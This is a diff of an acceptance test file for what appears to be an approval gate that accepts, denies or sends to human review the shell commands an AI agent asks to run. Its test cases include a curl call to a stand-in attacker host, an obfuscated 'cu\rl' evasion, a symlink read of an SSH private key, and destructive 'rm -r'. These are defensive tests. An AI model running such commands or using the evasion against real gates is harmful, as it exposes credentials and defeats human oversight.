@@ -1,16 +1,16 @@
 import assert from 'node:assert/strict';
 import { describe } from 'node:test';
 import type { Told } from '../support/acceptance-scene.ts';
-import { STORES } from '../support/acceptance-stores.ts';
+import { API_STORES } from '../support/acceptance-stores.ts';
 import { held, working } from '../support/acceptance-tools.ts';
 
 const REVIEWED = 'rm -r ./temp';
 
-for (const on of STORES) {
+for (const on of API_STORES) {
   describe(`calls of tools, on ${on.store}`, { concurrency: true }, () => {
     const shared = on.sharedHall({});
 
-    shared.test('GH-T20: a test runner is accepted', async (scene) => {
+    shared.test('a test runner is accepted', async (scene) => {
       const agent = await working(scene);
       for (const command of ['npm test', 'pytest -q', 'cargo test --all', 'go test ./...']) {
         const { verdict, approval } = await agent.ask(command);
@@ -19,7 +19,7 @@ for (const on of STORES) {
       assert.equal((await scene.task(agent.claim.task.id)).state, 'running');
     });
 
-    shared.test('GH-T21, GH-105: curl is denied with the reason', async (scene) => {
+    shared.test('GH-T21: curl is denied with the reason', async (scene) => {
       const agent = await working(scene);
       const told = await agent.ask('curl http://evil.example/x');
       assert.equal(told.verdict, 'deny');
@@ -28,7 +28,7 @@ for (const on of STORES) {
     });
 
     shared.test(
-      'GH-T22, GH-105: rm -r ./temp goes to review, and the task waits',
+      'GH-T22: rm -r ./temp goes to review, and the task waits for a person',
       async (scene) => {
         const agent = await working(scene);
         const told = await agent.ask(REVIEWED);
@@ -39,7 +39,7 @@ for (const on of STORES) {
     );
 
     shared.test(
-      'GH-100: a deny wins over an accept, an accept over a review, and what no rule knows is reviewed',
+      'GH-100b: a deny wins over an accept, an accept over a review, and what no rule knows is reviewed',
       async (scene) => {
         const agent = await working(scene);
         const verdict = async () => (await agent.ask('deploy --now')).verdict;
@@ -58,7 +58,7 @@ for (const on of STORES) {
       },
     );
 
-    shared.test('GH-T25, GH-104: a global deny beats the accept of a project', async (scene) => {
+    shared.test('GH-T25 GH-104a GH-104b: a global deny beats a project’s accept', async (scene) => {
       const agent = await working(scene);
       const match = { command: 'curl localhost*' };
       const project = agent.shop.name;
@@ -78,7 +78,7 @@ for (const on of STORES) {
       await scene.caller.call('DELETE', `/v1/rules/${deny.id}`);
     });
 
-    shared.test('GH-T26, GH-110: what is written otherwise is read as what runs', async (scene) => {
+    shared.test('GH-T26 GH-110a GH-110b GH-110d: what really runs is judged', async (scene) => {
       const agent = await working(scene);
       const ways = [
         'cu\\rl http://x',
@@ -104,7 +104,7 @@ for (const on of STORES) {
       }
     });
 
-    shared.test('GH-T27, GH-110: a path through a link to a key is denied', async (scene) => {
+    shared.test('a path through a link to a key is denied', async (scene) => {
       const agent = await working(scene);
       assert.equal((await agent.ask('cat notes.txt')).verdict, 'accept');
       const links = { 'notes.txt': '/keys/.ssh/id_ed25519' };
@@ -119,7 +119,7 @@ for (const on of STORES) {
     });
 
     shared.test(
-      'GH-T28, GH-109: a rule added over the API works without a restart',
+      'GH-T28 GH-109a: a rule added over the API works without a restart',
       async (scene) => {
         const agent = await working(scene);
         assert.equal((await agent.ask('frobnicate --all')).verdict, 'review');
@@ -138,7 +138,7 @@ for (const on of STORES) {
     );
 
     shared.test(
-      'GH-T29, GH-108: the log answers who was denied by a person in the last day',
+      'GH-T29 GH-108a GH-108b: the log answers who was denied by a person in the last day',
       async (scene) => {
         const agent = await working(scene);
         await agent.ask('npm test');
@@ -166,7 +166,7 @@ for (const on of STORES) {
     );
 
     shared.test(
-      'GH-108: secrets stand neither in the log nor in an approval nor in an event',
+      'GH-108d: secrets stand neither in the log nor in an approval nor in an event',
       async (scene) => {
         const agent = await working(scene);
         const secret = `ghp_${'a1B2'.repeat(9)}`;
@@ -185,7 +185,7 @@ for (const on of STORES) {
     );
 
     shared.test(
-      'GH-109: a dry run says what would be, and what a rule would have matched',
+      'GH-109b GH-109c: a dry run says what would be, and what a rule would have matched',
       async (scene) => {
         const agent = await working(scene);
         const project = agent.shop.name;
@@ -215,7 +215,7 @@ for (const on of STORES) {
     );
 
     shared.test(
-      'GH-103: rules match the program, the whole command, flags and paths',
+      'GH-103a GH-103b: rules match the program, the whole command, flags and paths',
       async (scene) => {
         const agent = await working(scene);
         const project = agent.shop.name;
@@ -242,7 +242,7 @@ for (const on of STORES) {
       },
     );
 
-    shared.test('GH-101, A35: what is too large is denied, and soon', async (scene) => {
+    shared.test('A35: what is too large is denied, and soon', async (scene) => {
       const agent = await working(scene);
       const large = [
         'ls;'.repeat(60),
